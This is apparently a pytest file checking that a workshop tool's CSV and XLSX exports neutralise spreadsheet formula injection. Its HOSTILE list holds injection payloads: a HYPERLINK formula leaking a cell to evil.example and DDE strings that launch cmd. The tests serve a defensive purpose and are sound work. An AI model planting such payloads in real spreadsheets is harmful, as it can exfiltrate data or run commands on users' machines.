"""Hostile cells: every CSV and XLSX cocreate writes neutralises a text a spreadsheet would run
as a formula (OWASP: a leading ``'``), numbers stay numbers, Parquet and JSONL keep the values
as they are, and cocreate reads its own files back to the original values."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pandas as pd
import pytest

from cocreate.export import BundleOptions, export_bytes, read_bundle, write_bundle
from cocreate.privacy import PrivacyOptions
from cocreate.records import IdeaRecord
from cocreate.spreadsheet import neutralise_formula, restore_formula
from cocreate.stakeholders import (
    Actor,
    build_graph,
    read_kumu_csv,
    read_kumu_xlsx,
    write_kumu_csv,
    write_kumu_xlsx,
)
from cocreate.triage import change_status, decide, local_admin, write_feedback

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# redaction off: the cells must reach the files exactly as typed
AS_TYPED = PrivacyOptions(redact=False, keep_personal_columns=True)


def is_dangerous(cell) -> bool:
    return isinstance(cell, str) and cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("cell", HOSTILE)
def test_the_rule_neutralises_and_restores(cell):
    safe = neutralise_formula(cell)
    assert safe == "'" + cell and not is_dangerous(safe)
    assert restore_formula(safe) == cell


@pytest.mark.parametrize("value", [-1, -2.5, 0, 3, None, True, "-1", "+33", "-2,5", "plain", ""])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralise_formula(value) == value
    assert restore_formula(value) == value


def test_a_text_that_starts_with_an_apostrophe_reads_back_unchanged():
    for text in ("'quoted", "'-1", "'"):
        assert restore_formula(neutralise_formula(text)) == text


@pytest.fixture
def hostile_workshop(store):
    workshop = store.create_workshop("Atelier hostile", language="fr")
    store.add_ideas(
        workshop["id"],
        [
            IdeaRecord(
                text=cell,
                title=cell,
                source_key=f"h{n}",
                author=cell,
                category=cell,
                votes=-1,
                language="fr",
                original={"Proposition": cell, "Score": -1, "Note": "-1"},
            )
            for n, cell in enumerate(HOSTILE)
        ],
        source="=evil",
    )
    return workshop


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_plain_export_csv_is_safe_and_jsonl_keeps_the_values(store, hostile_workshop):
    rows = csv_cells(export_bytes(store, hostile_workshop["id"], "csv", AS_TYPED))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE)
    assert not any(is_dangerous(cell) for row in rows for cell in row if cell not in ("-1",))
    by_name = [dict(zip(header, row, strict=True)) for row in body]
    assert [r["text"] for r in by_name] == ["'" + cell for cell in HOSTILE]
    assert {r["source"] for r in by_name} == {"'=evil"}
    # numbers are numbers: -1 votes and a "-1" text stay -1
    assert {r["votes"] for r in by_name} == {"-1"}
    assert {r["original.Score"] for r in by_name} == {r["original.Note"] for r in by_name} == {"-1"}
    lines = export_bytes(store, hostile_workshop["id"], "jsonl", AS_TYPED).decode().splitlines()
    records = [json.loads(line) for line in lines]
    assert [r["text"] for r in records] == HOSTILE
    assert records[0]["votes"] == -1


def test_bundle_csv_is_safe_parquet_and_jsonl_unchanged_and_it_reads_back(
    store, hostile_workshop, tmp_path
):
    result = write_bundle(
        store, hostile_workshop["id"], tmp_path / "b", BundleOptions(privacy=AS_TYPED)
    )
    for name in ("ideas.csv", "comments.csv", "clusters.csv", "scores.csv"):
        rows = csv_cells((result.path / name).read_bytes())
        offenders = [c for row in rows for c in row if is_dangerous(c) and c != "-1"]
        assert offenders == [], name
    ideas_csv = pd.read_csv(result.path / "ideas.csv", dtype=str)
    assert list(ideas_csv["text"]) == ["'" + cell for cell in HOSTILE]
    assert list(pd.read_csv(result.path / "comments.csv")["comment-body"]) == [
        "'" + cell for cell in HOSTILE
    ]
    assert list(pd.read_parquet(result.path / "ideas.parquet")["text"]) == HOSTILE
    assert list(pd.read_json(result.path / "ideas.jsonl", lines=True)["text"]) == HOSTILE
    assert list(pd.read_parquet(result.path / "ideas.parquet")["votes"]) == [-1] * len(HOSTILE)
    # a CSV-only bundle reads back to the values as typed
    only_csv = write_bundle(
        store,
        hostile_workshop["id"],
        tmp_path / "c",
        BundleOptions(formats=("csv",), privacy=AS_TYPED),
    )
    back = read_bundle(only_csv.path)
    assert list(back.ideas["text"]) == HOSTILE
    assert list(back.ideas["category"]) == HOSTILE
    assert [o["Proposition"] for o in back.ideas["original"]] == HOSTILE


def hostile_map():
    actors = [Actor(f"a{n}", cell, "citizens", notes=cell) for n, cell in enumerate(HOSTILE)]
    return build_graph(actors)


def test_kumu_csv_and_xlsx_are_safe_and_read_back(tmp_path):
    G = hostile_map()
    write_kumu_xlsx(G, tmp_path / "map.xlsx")
    book = openpyxl.load_workbook(tmp_path / "map.xlsx")
    cells = [c.value for sheet in book for row in sheet.iter_rows() for c in row]
    assert not any(is_dangerous(c) for c in cells)
    # openpyxl stores no formula at all: every hostile label is a plain string cell
    assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row)
    assert "'" + HOSTILE[0] in cells
    write_kumu_csv(G, tmp_path / "elements.csv", tmp_path / "connections.csv")
    rows = csv_cells((tmp_path / "elements.csv").read_bytes())
    assert not any(is_dangerous(c) for row in rows for c in row)
    for back in (
        read_kumu_xlsx(tmp_path / "map.xlsx"),
        read_kumu_csv(tmp_path / "elements.csv", tmp_path / "connections.csv"),
    ):
        # the readers trim a label's leading tab or line break, as for any label
        labels = sorted(d["label"] for _, d in back.nodes(data=True))
        assert labels == sorted(cell.strip() for cell in HOSTILE)


def test_feedback_export_is_safe_and_recorded(store, hostile_workshop, tmp_path):
    admin = local_admin("Léa Martin")
    ideas = [i["id"] for i in store.list_ideas(hostile_workshop["id"])]
    change_status(store, admin, hostile_workshop["id"], "under_review", idea_ids=ideas)
    for idea in ideas:
        decide(
            store,
            admin,
            hostile_workshop["id"],
            outcome="accepted",
            idea_id=idea,
            answer_fr="=1+1",
            answer_en="=1+1",
        )
    write_feedback(store, hostile_workshop["id"], tmp_path / "answers.xlsx", actor="Léa Martin")
    book = openpyxl.load_workbook(tmp_path / "answers.xlsx")
    cells = [c.value for sheet in book for row in sheet.iter_rows() for c in row]
    assert "'=1+1" in cells
    assert not any(is_dangerous(c) for c in cells)
    entry = store.audit_entries(hostile_workshop["id"])[0]
    assert (entry["action"], entry["actor"]) == ("feedback", "Léa Martin")
